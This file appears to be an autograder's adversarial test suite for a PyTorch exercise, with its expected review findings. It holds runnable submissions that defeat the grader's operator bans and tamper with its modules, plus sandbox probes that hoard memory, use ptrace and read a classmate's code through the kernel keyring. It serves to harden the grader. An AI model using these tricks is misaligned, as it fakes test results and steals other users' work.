_job = []
class _Answer(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        if func is torch.ops.aten.sinh.default and _job:
            return _job.pop()()
        return func(*args, **(kwargs or {}))
_Answer().__enter__()   # below the guard's own modes from now on
def _via(fn):
    _job.append(fn)
    return torch.sinh(torch.zeros(()))
''')}, why="the mode stacks are exactly the engine's on every request: a mode left at import never sees a call")

attack("guard_custom_op", {"ch3/softmax.py": routed('''
_job = []
@torch.library.custom_op("student_ops::compute", mutates_args=())
def _compute(x: torch.Tensor) -> torch.Tensor:
    return _job.pop()()
@_compute.register_fake
def _(x):
    return x
def _via(fn):
    _job.append(fn)
    return _compute(torch.zeros(()))
''')}, why="an operator outside aten and prims is refused in a call with bans, whatever its kernel computes")

attack("guard_aten_kernel", {"ch3/softmax.py": routed('''
_job = []
_lib = torch.library.Library("aten", "IMPL")
_lib.impl("sinh", lambda x: _job.pop()() if _job else x, "CPU")
def _via(fn):
    _job.append(fn)
    return torch.sinh(torch.zeros(()))
''')}, why="no kernel of the student's own for an aten op in an exercise with bans")

attack("guard_torch_ops_swapped", {"ch3/softmax.py": routed('''
import torch._ops as _ops
aten = torch.ops.aten
def _via(fn):
    saved = _ops.OpOverload, _ops.OpOverloadPacket
    _ops.OpOverload = _ops.OpOverloadPacket = type("Nothing", (), {})
    try:
        return fn()
    finally:
        _ops.OpOverload, _ops.OpOverloadPacket = saved
''', softmax="aten._softmax.default(X, 1, False)",
    cross_entropy="aten.nll_loss_forward.default(torch.log(y_hat), y, None, 1, -100)[0]",
    cross_entropy_logits="-aten._log_softmax.default(logits, 1, False).gather(1, y[:, None]).mean()")},
       why="the op classes the guard names ops by are bound before the import")

attack("tamper_tensor_method_added", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
_pending = []
_contiguous = torch._C.TensorBase.contiguous
def _forge(self, *args, **kwargs):
    out = _contiguous(self, *args, **kwargs)
    if _pending and out.shape == _pending[0]:
        _pending.pop()
        return F.softmax(out, dim=1)   # the encoder's copy, outside any guarded call
    return out
torch.Tensor.contiguous = _forge    # an attribute added to the class: the old seal saw only replacements
def softmax(X):
    _pending.append(X.shape)
    return X.clone()
''' + WRONG.split("def softmax(X):")[0] + WRONG[WRONG.index("def cross_entropy("):]},
       why="#26: an attribute added to a torch class the engine uses is tampering, and the encoder calls torch's own method")

attack("tamper_reply_loop", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
import grader.checks.codec as _codec
import grader.sandbox.worker as _worker
_asked = []
def _answer(reply):
    if _asked and type(reply) is dict and not reply.get("ok"):
        name, args = _asked.pop()
        value = {"softmax": lambda X: F.softmax(X, dim=1),
                 "cross_entropy": lambda a, b: F.nll_loss(torch.log(a), b),
                 "cross_entropy_logits": F.cross_entropy}[name](*args)
        return {"ok": True, "value": _codec.to_plain(value)}
    return reply
vars(_worker)["_oom_from_allocator"] = _answer   # the reply loop, after the seal's check
def softmax(X):
    _asked.append(("softmax", (X,)))
    raise ValueError("answered by the reply loop")
def cross_entropy(y_hat, y):
    _asked.append(("cross_entropy", (y_hat, y)))
    raise ValueError("answered by the reply loop")
def cross_entropy_logits(logits, y):
    _asked.append(("cross_entropy_logits", (logits, y)))
    raise ValueError("answered by the reply loop")
'''}, why="the reply loop is sealed engine code, and calls what it bound before the import")


# ---------------------------------------------------------------------------- issue 24, class 5
# The sandbox itself: memory held outside the address space, a kernel channel between two
# students graded at the same time, system calls beyond Docker's baseline. Each one that worked
# would turn into the reference solution (10); a wrong answer proves it did not.

attack("memfd_hoard", {"ch3/softmax.py": unless("_held_more_than_the_limit()", '''
import os, resource
def _held_more_than_the_limit():
    # the worker's limit, as it can work it out: its address-space cap less what is mapped now
    with open("/proc/self/statm") as fh:
        mapped = int(fh.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
    limit = resource.getrlimit(resource.RLIMIT_AS)[0] - mapped
    # pages in a memfd are not address space; RLIMIT_FSIZE caps each one, so several
    fds, held, step = [], 0, 128 << 20
    try:
        while held <= limit + (256 << 20):
            fds.append(os.memfd_create("hoard"))
            os.posix_fallocate(fds[-1], 0, step)      # the pages, without copying into them
            held += step
    except OSError:
        return False
    return True
''')}, why="memory in a memfd counts: the worker is stopped at its limit (oom) or memfds are "
           "refused; tests/sandbox/test_memory.py shows it with a small limit")

KEYRING = '''
import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
_NAME = b"tg-course-share"
'''

attack("keyring_a_writer", {"ch3/softmax.py": KEYRING + '''
def _publish():
    source = open(__file__, "rb").read()
    for ring in (-4, -3):                                # its user and session keyrings
        key = _libc.syscall(_ADD_KEY, b"user", _NAME, source, len(source), ring)
        if key >= 0:
            _libc.syscall(_KEYCTL, 5, key, 0x3F3F3F3F)   # KEYCTL_SETPERM: anybody may read it
_publish()
{PERFECT}
'''}, score=10.0, why="an honest student whose worker tries to publish its source in the kernel keyring")

attack("keyring_b_reader", {"ch3/softmax.py": KEYRING + '''
import time
def _fetch():
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        ids = []
        try:
            with open("/proc/keys") as fh:               # every key this process may view
                ids = [int(line.split()[0], 16) for line in fh if "tg-course-share" in line]
        except OSError:
            pass
        for ring in (-4, -3):
            key = _libc.syscall(_KEYCTL, 10, ring, b"user", _NAME, 0)     # KEYCTL_SEARCH
            if key >= 0:
                ids.append(key)
        for key in ids:
            buf = ctypes.create_string_buffer(1 << 16)
            n = _libc.syscall(_KEYCTL, 11, key, buf, 1 << 16)            # KEYCTL_READ
            if n > 0:
                return buf.raw[:n].decode()
        time.sleep(0.1)
    return None
_stolen = _fetch()
if _stolen:
    exec(compile(_stolen, "stolen", "exec"))
else:
''' + "\n".join("    " + line for line in WRONG.strip().splitlines()) + "\n"},
       why="the kernel keyring is not namespaced: refused to workers, so no classmate's key is found")

attack("syscalls_beyond_docker", {"ch3/softmax.py": unless("_escaped()", '''
import ctypes, os, platform, signal, struct, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_NR = {"x86_64": {"ptrace": 101, "process_vm_readv": 310, "userfaultfd": 323, "io_uring_setup": 425,
                  "perf_event_open": 298},
       "aarch64": {"ptrace": 117, "process_vm_readv": 270, "userfaultfd": 282, "io_uring_setup": 425,
                   "perf_event_open": 241}}[platform.machine()]
def _escaped():
    """Read another process's memory (its own child: a sibling is invisible), or get a
    userfaultfd, an io_uring or a performance counter."""
    secret = ctypes.create_string_buffer(b"the other process's secret")
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    try:
        got = ctypes.create_string_buffer(32)
        local = (ctypes.c_void_p * 2)(ctypes.cast(got, ctypes.c_void_p), 26)
        remote = (ctypes.c_void_p * 2)(ctypes.cast(secret, ctypes.c_void_p), 26)
        read = _libc.syscall(_NR["process_vm_readv"], child, local, 1, remote, 1, 0) == 26
        traced = _libc.syscall(_NR["ptrace"], 16, child, 0, 0) == 0              # PTRACE_ATTACH
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    uffd = _libc.syscall(_NR["userfaultfd"], 1) >= 0
    ring = _libc.syscall(_NR["io_uring_setup"], 1, ctypes.create_string_buffer(120)) >= 0
    attr = bytearray(128)
    struct.pack_into("IIQ", attr, 0, 1, 128, 1)
    struct.pack_into("Q", attr, 40, (1 << 5) | (1 << 6))
    counter = _libc.syscall(_NR["perf_event_open"], (ctypes.c_char * 128).from_buffer(attr), 0, -1, -1, 0) >= 0
    return read or traced or uffd or ring or counter
''')}, why="ptrace, process_vm_readv, userfaultfd, io_uring and perf_event_open are refused to workers")
# ---------------------------------------------------------------- issue 24: the judge's review
# Routes around the run-time guard and the seal that live in the student's own interpreter. The
# guarantee is the judge's review of the source: each of these is a finding (FINDINGS below), so
# the exercise is held for review with 0 until the instructor decides, whatever the run-time
# checks made of it (score None: what the worker's guard catches is the runtime's to say).
HONEST_CE = '''
def cross_entropy(y_hat, y):
    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
def cross_entropy_logits(logits, y):
    return cross_entropy(softmax(logits), y)
'''

attack("route_other_op_namespace", {"ch3/softmax.py": '''
import torch
def softmax(X):
    q = torch.quantize_per_tensor(X, 1.0 / 64, 128, torch.quint8)
    return torch.ops.quantized.softmax(q, 1, 1.0 / 256, 0).dequantize()
''' + HONEST_CE}, score=None, why="an operator namespace other than aten computes the softmax")
attack("route_custom_op", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
@torch.library.custom_op("student::rows", mutates_args=())
def _rows(X: torch.Tensor) -> torch.Tensor:
    return F.softmax(X, dim=1)
def softmax(X):
    return torch.ops.student.rows(X)
''' + HONEST_CE}, score=None, why="a custom operator whose Python kernel calls the banned softmax")
attack("route_numpy", {"ch3/softmax.py": '''
import numpy as np
import torch
def softmax(X):
    e = np.exp(X.numpy() - X.numpy().max(axis=1, keepdims=True))
    return torch.from_numpy(e / e.sum(axis=1, keepdims=True))
def cross_entropy(y_hat, y):
    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
def cross_entropy_logits(logits, y):
    lse = torch.from_numpy(np.logaddexp.reduce(logits.numpy(), axis=1))
    return (lse - logits[torch.arange(len(y)), y]).mean()
'''}, score=None, why="numpy's logaddexp is a log-sum-exp the guard never sees")
attack("mode_pushed_at_import", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
from torch.overrides import TorchFunctionMode
class _Answer(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func is torch.nan_to_num and (kwargs or {}).get("nan") == -7.0:
            return F.softmax(args[0], dim=1)
        return func(*args, **(kwargs or {}))
_Answer().__enter__()
def softmax(X):
    return torch.nan_to_num(X, nan=-7.0)
''' + HONEST_CE}, score=None, why="a function mode pushed at import answers an allowed call with the banned one")
attack("dispatch_mode_pushed_at_import", {"ch3/softmax.py": '''
import torch
from torch.utils._python_dispatch import TorchDispatchMode
class _Answer(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        if func is torch.ops.aten.nan_to_num.default and args[1] == -7.0:
            return torch.ops.aten._softmax.default(args[0], 1, False)
        return func(*args, **(kwargs or {}))
_Answer().__enter__()
def softmax(X):
    return torch.nan_to_num(X, nan=-7.0)
''' + HONEST_CE}, score=None, why="a dispatch mode pushed at import answers an allowed operator with the banned one")
attack("thread_pops_modes", {"ch3/softmax.py": '''
import threading, time
import torch
_popped = []
def _pop_forever():
    while True:
        try:
            _popped.append(torch._C._pop_torch_function_stack())
        except Exception:
            time.sleep(0.0005)
threading.Thread(target=_pop_forever, daemon=True).start()
''' + BANNED}, score=None, why="a thread pops the guard's mode while no guard is active")
attack("dispatch_switch_unwrapped", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
def softmax(X):
    with torch._C._DisableTorchDispatch():
        with torch._C.DisableTorchFunctionSubclass():
            return F.softmax(X, dim=1)
''' + HONEST_CE}, score=None, why="a dispatch switch the guard does not wrap like the others")
attack("compiled_under_trusted_name", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
_SOURCE = "def softmax(X):\\n    return F.softmax(X, dim=1)\\n"
exec(compile(_SOURCE, F.__file__, "exec"))
''' + HONEST_CE}, score=None, why="code compiled under torch's own file name, which a guard might trust")
attack("class_swap", {"ch3/softmax.py": '''
import types
import torch
import torch.nn.functional as F
class _Open(types.ModuleType):
    def __getattribute__(self, name):
        return object.__getattribute__(self, "softmax" if name == "relu6" else name)
def _swap(obj, cls):
    obj.__class__ = cls
_swap(F, _Open)
def softmax(X):
    return F.relu6(X, dim=1)
''' + HONEST_CE}, score=None, why="a module's __class__ swapped for one that answers another name")
attack("torch_ops_blinded", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
_name = torch._ops.OpOverload.name
torch._ops.OpOverload.name = lambda self: "aten::exp" if "softmax" in _name(self) else _name(self)
''' + BANNED}, score=None, why="torch._ops swapped so that a banned operator reads as another")
attack("rebind_stdlib", {"ch3/softmax.py": '''
import os.path, time
import torch
import torch.nn.functional as F
def softmax(X):
    real = os.path.realpath
    os.path.realpath = lambda path: F.__file__
    try:
        return F.softmax(X, dim=1)
    finally:
        os.path.realpath = real
time.perf_counter = lambda: 0.0
''' + HONEST_CE}, score=None, why="stdlib functions the trust check and the probes call, rebound")
attack("reply_loop_patched", {"ch3/softmax.py": '''
import grader.sandbox.worker as _worker
_worker.MAX_REPLY = 1 << 40
''' + "{PERFECT}"}, score=None, why="an engine module that runs in the worker, patched")
attack("computed_dunder_name", {"ch3/softmax.py": '''
import torch
class _Rows(torch.Tensor):
    pass
_NAME = chr(95) * 2 + "class" + chr(95) * 2
def _as(obj, cls):
    setattr(obj, _NAME, cls)
    setattr(obj, "".join(["__cl", "ass__"]), cls)
    return obj
''' + WRONG}, why="an attribute name spelled from character codes, and from pieces")
attack("memfd_and_keyring", {"ch3/softmax.py": '''
import ctypes, os
def _hold():
    fd = os.memfd_create("tg")
    os.ftruncate(fd, 1 << 20)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(248, b"user", b"tg", b"secret", 6, -2)
_hold()
''' + WRONG}, why="memory a limit does not count, a keyring shared between students")


# ---------------------------------------------------------------- what the judge's review finds
# For every attack: each finding's kind and a piece of the line it is on ({PERFECT} and the other
# placeholders filled in as at grading time; a piece found on several lines stands for all of
# them). The review must find exactly these, no more: held for review with 0 under the course's
# default policy ([grading] findings = "withhold"); an attack with none is scored as above.
FINDINGS: dict[str, list[tuple[str, str]]] = {
    'memfd_hoard': [
        ('import', 'import os, resource'),
        ('restricted', 'mapped = int(fh.read().split()[0]) * os.sysconf("S'),
        ('restricted', 'fds.append(os.memfd_create("hoard"))'),
        ('restricted', 'os.posix_fallocate(fds[-1], 0, step)      # the pa'),
        ('dynamic', "exec('\\nimport torch\\ndef softmax(X):\\n    return "),
    ],
    'keyring_a_writer': [
        ('import', 'import ctypes, platform'),
    ],
    'keyring_b_reader': [
        ('import', 'import ctypes, platform'),
        ('dynamic', 'exec(compile(_stolen, "stolen", "exec"))'),
    ],
    'syscalls_beyond_docker': [
        ('import', 'import ctypes, os, platform, signal, struct, time'),
        ('restricted', 'child = os.fork()'),
        ('private', 'os._exit(0)'),
        ('restricted', 'os.kill(child, signal.SIGKILL)'),
        ('restricted', 'os.waitpid(child, 0)'),
        ('dynamic', "exec('\\nimport torch\\ndef softmax(X):\\n    return "),
    ],
    'eq_always_true': [
        ('dunder', 'def __float__(self): return 2.0404'),
        ('dunder', 'def __getattr__(self, name): return lambda *a, *'),
    ],
    'tensor_subclass_eq': [
        ('subclass', 'class T(torch.Tensor):'),
    ],
    'torch_function_override': [
        ('subclass', 'class T(torch.Tensor):'),
        ('dunder', 'def __torch_function__(cls, func, types, args=()'),
    ],
    'nan_outputs': [],
    'broadcastable_shapes': [],
    'patch_allclose': [
        ('patch', 'torch.allclose = lambda *a, **k: True'),
        ('patch', 'torch.equal = lambda *a, **k: True'),
        ('patch', 'torch.isclose = lambda a, b, *r, **k: torch.ones'),
        ('patch', 'torch.Tensor.__eq__ = lambda self, other: torch.'),
    ],
    'patch_assert_close': [
        ('patch', 'torch.testing.assert_close = lambda *a, **k: Non'),
        ('patch', 'torch.testing.assert_allclose = lambda *a, **k:'),
    ],
    'patch_numpy_testing': [
        ('patch', 'numpy.testing.assert_allclose = lambda *a, **k:'),
        ('patch', 'numpy.allclose = lambda *a, **k: True'),
    ],
    'patch_pytest_runtest': [
        ('import', 'import _pytest.python, _pytest.runner'),
    ],
    'conftest_makereport': [],
    'sys_exit_at_import': [],
    'os_exit_at_import': [
        ('private', 'os._exit(0)'),
    ],
    'sys_exit_in_call': [],
    'os_exit_in_call': [
        ('private', 'return os._exit(0)'),
    ],
    'fake_passed_output': [],
    'write_output_folder': [],
    'read_hidden_checks': [
        ('dynamic', 'exec(compile(src, "stolen", "exec"), ns)'),
    ],
    'read_other_student': [
        ('dynamic', 'exec(compile(open("{SUBMISSIONS}/control_perfect'),
    ],
    'shadow_torch_module': [],
    'shadow_numpy_module': [],
    'sitecustomize': [],
    'pth_file': [],
    'infinite_loop': [],
    'memory_bomb': [],
    'fork_bomb': [
        ('restricted', 'os.fork()'),
    ],
    'huge_output': [],
    'background_process': [
        ('import', 'import os, subprocess, threading, time'),
    ],
    'global_torch_state': [],
    'forbidden_alias': [
        ('reflection', 'return getattr(F, "soft" + "max")(X, dim=1)'),
        ('reflection', 'return getattr(torch.ops.aten, "_log_" + "softma'),
        ('spelled', 'return getattr(torch.ops.aten, "_log_" + "softma'),
        ('torch.ops', 'return getattr(torch.ops.aten, "_log_" + "softma'),
    ],
    'guard_switched_off': [
        ('private', 'from torch._C import DisableTorchFunction'),
        ('private', 'with DisableTorchFunction():'),
        ('torch.overrides', 'with torch.overrides._pop_mode_temporarily():'),
        ('private', 'with torch.utils._python_dispatch._disable_curre'),
        ('private', 'mode = torch._C._pop_torch_function_stack()'),
        ('private', 'torch._C._push_on_torch_function_stack(mode)'),
    ],
    'network': [
        ('import', 'import socket'),
    ],
    'segfault': [
        ('import', 'import ctypes'),
    ],
    'kill_parent': [
        ('import', 'import os, signal'),
        ('restricted', 'os.kill(os.getppid(), signal.SIGKILL)'),
    ],
    'syntax_error': [],
    'not_utf8': [],
    'proc_cmdline_leak': [
        ('dynamic', "exec('\\nimport torch\\ndef softmax(X):\\n    retur"),
    ],
    'forged_cell_note': [],
    'hidden_input_in_line_and_type': [],
    'hidden_message_exfiltration': [
        ('import', 'import base64, io, torch'),
    ],
    'ipc_a_writer': [
        ('import', 'import ctypes'),
    ],
    'ipc_b_reader': [
        ('import', 'import ctypes'),
        ('dynamic', 'exec(compile(_stolen, "stolen", "exec"))'),
    ],
    'zero_stride_reply': [
        ('grader', 'import grader.checks.codec as _codec'),
        ('grader', '_original = _codec.to_plain'),
        ('grader', 'return _original(obj, *args, **kwargs)'),
        ('grader', '_codec.to_plain = to_plain'),
        ('spelled', '_forge({"__tg__": "tensor", "data": torch.zeros('),
    ],
    'pickle_bomb_reply': [
        ('grader', 'import grader.checks.codec as _codec'),
        ('grader', '_original = _codec.to_plain'),
        ('grader', 'return _original(obj, *args, **kwargs)'),
        ('grader', '_codec.to_plain = to_plain'),
    ],
    'huge_pickle_reply': [
        ('grader', 'import grader.checks.codec as _codec'),
        ('grader', '_original = _codec.to_plain'),
        ('grader', 'return _original(obj, *args, **kwargs)'),
        ('grader', '_codec.to_plain = to_plain'),
    ],
    'forged_frame_zero_stride': [
        ('import', 'import os, socket, struct'),
        ('import', 'import msgpack'),
        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
        ('private', 'os._exit(0)'),
        ('spelled', 'return _send(msgpack.packb({"ok": True, "value":'),
    ],
    'forged_frame_length_claim': [
        ('import', 'import os, socket, struct'),
        ('import', 'import msgpack'),
        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
        ('private', 'os._exit(0)'),
    ],
    'forged_frame_deep_nesting': [
        ('import', 'import os, socket, struct'),
        ('import', 'import msgpack'),
        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
        ('private', 'os._exit(0)'),
    ],
    'forged_frame_array_claim': [
        ('import', 'import os, socket, struct'),
        ('import', 'import msgpack'),
        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
        ('private', 'os._exit(0)'),
    ],
    'sleeper': [],
    'deep_folder_chain': [],
    'Case_Clash': [],
    'case_clash': [],
    'markdown_file_name': [],
    'notebook_field_html': [],
    'visible_message_markup': [],
    'tamper_guard_seen_noop': [
        ('grader', 'import grader.checks.forbid as forbid'),
        ('grader', 'forbid.Guard.seen = lambda self, func: None'),
    ],
    'tamper_guard_seen_code': [
        ('grader', 'import grader.checks.forbid as forbid'),
        ('dunder', 'forbid.Guard.seen.__code__ = (lambda self, func:'),
        ('grader', 'forbid.Guard.seen.__code__ = (lambda self, func:'),
    ],
    'tamper_module_dict': [
        ('grader', 'import grader.checks.forbid as forbid'),
        ('dynamic', 'vars(forbid)["expand_families"] = lambda names:'),
        ('grader', 'vars(forbid)["expand_families"] = lambda names:'),
        ('dunder', 'type.__setattr__(forbid.Guard, "seen", lambda se'),
        ('grader', 'type.__setattr__(forbid.Guard, "seen", lambda se'),
    ],
    'tamper_family_table': [
        ('grader', 'import grader.checks.forbid as forbid'),
        ('grader', 'for key in list(forbid.FAMILIES):'),
        ('grader', 'forbid.FAMILIES[key] = frozenset()'),
        ('patch', 'forbid.FAMILIES[key] = frozenset()'),
        ('torch.ops', 'return torch.exp(torch.ops.aten._safe_softmax(X,'),
        ('torch.ops', 'return torch.ops.aten.nll_loss_forward(torch.log'),
    ],
    'tamper_codec_helper': [
        ('grader', 'import grader.checks.codec as codec'),
        ('grader', '_real = codec.encode_tensor'),
        ('grader', 'return _real(t, path, budget)'),
        ('grader', 'codec.encode_tensor = _lie'),
    ],
    'tamper_caught_attempt': [
        ('grader', 'import grader.checks.executor as executor'),
        ('grader', 'executor.reset_torch_state = lambda: None'),
    ],
    'tamper_sys_modules': [
        ('patch', 'sys.modules["grader.checks.codec"] = types.Modul'),
        ('restricted', 'sys.modules["grader.checks.codec"] = types.Modul'),
    ],
    'tamper_torch_class': [
        ('patch', 'torch.nn.Module.named_modules = named_modules'),
    ],
    'tamper_in_call': [
        ('grader', 'import grader.checks.specs as specs'),
        ('grader', 'specs.ModelRecorder.records = lambda self: {}'),
    ],
    'ban_helper_thread': [
        ('import', 'import threading'),
    ],
    'ban_thread_started_at_import': [
        ('import', 'import queue, threading'),
    ],
    'ban_thread_pool': [
        ('import', 'from concurrent.futures import ThreadPoolExecuto'),
    ],
    'ban_torchscript': [
        ('private', 'torch._C._jit_override_can_fuse_on_cpu(True)'),
        ('torch.jit', '@torch.jit.script'),
    ],
    'ban_torchscript_in_call': [
        ('torch.jit', 'return torch.jit.trace(lambda X: torch.softmax(X'),
        ('torch.jit', 'return torch.jit.trace(lambda a: torch.log_softm'),
    ],
    'ban_apply_callback': [
        ('callback', 'out.view(-1).apply_(lambda v: float(flat[next(in'),
    ],
    'ban_wrapped_original': [
        ('private', 'pop = getattr(torch._C._pop_torch_function_stack'),
        ('spelled', 'pop = getattr(torch._C._pop_torch_function_stack'),
        ('private', 'disable = getattr(torch._C.DisableTorchFunction,'),
        ('spelled', 'disable = getattr(torch._C.DisableTorchFunction,'),
        ('private', 'with disable():'),
    ],
    'ban_aten_overloads': [
        ('torch.ops', 'aten = torch.ops.aten'),
        ('torch.ops', 'return aten._safe_softmax.default(X, 1)'),
        ('torch.ops', 'return aten.nll_loss_forward.default(torch.log(y'),
        ('torch.ops', 'return aten.nll_loss2d.default(logp[:, :, None,'),
    ],
    'ban_attention_softmax': [
        ('route', 'return F.scaled_dot_product_attention(torch.ones'),
        ('torch.ops', 'return torch.ops.aten.nll_loss_nd(torch.log(y_ha'),
    ],
    'route_other_op_namespace': [
        ('torch.ops', 'return torch.ops.quantized.softmax(q, 1, 1.0 / 2'),
    ],
    'route_custom_op': [
        ('torch.library', '@torch.library.custom_op("student::rows", mutate'),
        ('torch.ops', 'return torch.ops.student.rows(X)'),
    ],
    'route_numpy': [
        ('numpy', 'e = np.exp(X.numpy() - X.numpy().max(axis=1, kee'),
        ('numpy', 'lse = torch.from_numpy(np.logaddexp.reduce(logit'),
    ],
    'mode_pushed_at_import': [
        ('torch.overrides', 'from torch.overrides import TorchFunctionMode'),
        ('torch.overrides', 'class _Answer(TorchFunctionMode):'),
        ('dunder', 'def __torch_function__(self, func, types, args=('),
    ],
    'dispatch_mode_pushed_at_import': [
        ('private', 'from torch.utils._python_dispatch import TorchDi'),
        ('private', 'class _Answer(TorchDispatchMode):'),
        ('dunder', 'def __torch_dispatch__(self, func, types, args=('),
        ('torch.ops', 'if func is torch.ops.aten.nan_to_num.default and'),
        ('torch.ops', 'return torch.ops.aten._softmax.default(args[0],'),
    ],
    'thread_pops_modes': [
        ('import', 'import threading, time'),
        ('private', '_popped.append(torch._C._pop_torch_function_stac'),
    ],
    'dispatch_switch_unwrapped': [
        ('private', 'with torch._C._DisableTorchDispatch():'),
        ('private', 'with torch._C.DisableTorchFunctionSubclass():'),
    ],
    'compiled_under_trusted_name': [
        ('dynamic', 'exec(compile(_SOURCE, F.__file__, "exec"))'),
    ],
    'class_swap': [
        ('restricted', 'class _Open(types.ModuleType):'),
        ('dunder', 'def __getattribute__(self, name):'),
        ('dunder', 'return object.__getattribute__(self, "softmax" i'),
        ('dunder', 'obj.__class__ = cls'),
    ],
    'torch_ops_blinded': [
        ('private', '_name = torch._ops.OpOverload.name'),
        ('patch', 'torch._ops.OpOverload.name = lambda self: "aten:'),
        ('private', 'torch._ops.OpOverload.name = lambda self: "aten:'),
    ],
    'rebind_stdlib': [
        ('patch', 'os.path.realpath = lambda path: F.__file__'),
        ('patch', 'os.path.realpath = real'),
        ('patch', 'time.perf_counter = lambda: 0.0'),
    ],
    'reply_loop_patched': [
        ('grader', 'import grader.sandbox.worker as _worker'),
        ('grader', '_worker.MAX_REPLY = 1 << 40'),
    ],
    'computed_dunder_name': [
        ('subclass', 'class _Rows(torch.Tensor):'),
        ('reflection', 'setattr(obj, _NAME, cls)'),
        ('dunder', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
        ('reflection', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
        ('spelled', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
    ],
    'memfd_and_keyring': [
        ('import', 'import ctypes, os'),
        ('restricted', 'fd = os.memfd_create("tg")'),
        ('restricted', 'os.ftruncate(fd, 1 << 20)'),
    ],
    'guard_unwrapped_switches': [
        ('private', 'torch._C._set_torch_function_state(torch._C._Torch'),
        ('private', 'with torch._C._DisableTorchDispatch():'),
    ],
    'guard_redispatch': [
        ('private', '_CPU = torch._C.DispatchKeySet(torch._C.DispatchKe'),
        ('torch.ops', 'aten = torch.ops.aten'),
        ('torch.ops', 'return _via(lambda: aten._softmax.default.redispat'),
        ('torch.ops', 'return _via(lambda: aten.nll_loss_forward.default.'),
        ('torch.ops', 'return _via(lambda: -aten._log_softmax.default.red'),
    ],
    'guard_trusted_file_name': [
        ('dynamic', 'exec(compile("""'),
    ],
    'guard_stdlib_rebound': [
        ('private', '_real = sys._getframe'),
        ('patch', 'sys._getframe = lambda depth=0: _torch_frame'),
        ('private', 'with torch._C.DisableTorchFunction():'),
        ('private', 'with torch.utils._python_dispatch._disable_current'),
        ('patch', 'sys._getframe = _real'),
        ('private', 'sys._getframe = _real'),
    ],
    'guard_thread_pops_modes': [
        ('import', 'import queue, threading'),
        ('private', 'while torch._C._len_torch_function_stack():'),
        ('private', 'torch._C._pop_torch_function_stack()'),
        ('private', 'while torch._C._len_torch_dispatch_stack():'),
        ('private', 'torch._C._pop_torch_dispatch_stack(None)'),
    ],
    'guard_mode_pushed_at_import': [
        ('private', 'from torch.utils._python_dispatch import TorchDisp'),
        ('private', 'class _Answer(TorchDispatchMode):'),
        ('dunder', 'def __torch_dispatch__(self, func, types, args=(),'),
        ('torch.ops', 'if func is torch.ops.aten.sinh.default and _job:'),
    ],
    'guard_custom_op': [
        ('torch.library', '@torch.library.custom_op("student_ops::compute", m'),
    ],
    'guard_aten_kernel': [
        ('torch.library', '_lib = torch.library.Library("aten", "IMPL")'),
    ],
    'guard_torch_ops_swapped': [
        ('private', 'import torch._ops as _ops'),
        ('torch.ops', 'aten = torch.ops.aten'),
        ('private', 'saved = _ops.OpOverload, _ops.OpOverloadPacket'),
        ('patch', '_ops.OpOverload = _ops.OpOverloadPacket = type("No'),
        ('reflection', '_ops.OpOverload = _ops.OpOverloadPacket = type("No'),
        ('patch', '_ops.OpOverload, _ops.OpOverloadPacket = saved'),
        ('torch.ops', 'return _via(lambda: aten._softmax.default(X, 1, Fa'),
        ('torch.ops', 'return _via(lambda: aten.nll_loss_forward.default('),
        ('torch.ops', 'return _via(lambda: -aten._log_softmax.default(log'),
    ],
    'tamper_tensor_method_added': [
        ('private', '_contiguous = torch._C.TensorBase.contiguous'),
        ('private', 'out = _contiguous(self, *args, **kwargs)'),
        ('patch', 'torch.Tensor.contiguous = _forge    # an attribute'),
    ],
    'tamper_reply_loop': [
        ('grader', 'import grader.checks.codec as _codec'),
        ('grader', 'import grader.sandbox.worker as _worker'),
        ('grader', 'return {"ok": True, "value": _codec.to_plain(value'),
        ('dynamic', 'vars(_worker)["_oom_from_allocator"] = _answer   #'),
        ('grader', 'vars(_worker)["_oom_from_allocator"] = _answer   #'),
        ('spelled', 'vars(_worker)["_oom_from_allocator"] = _answer   #'),
    ],
}
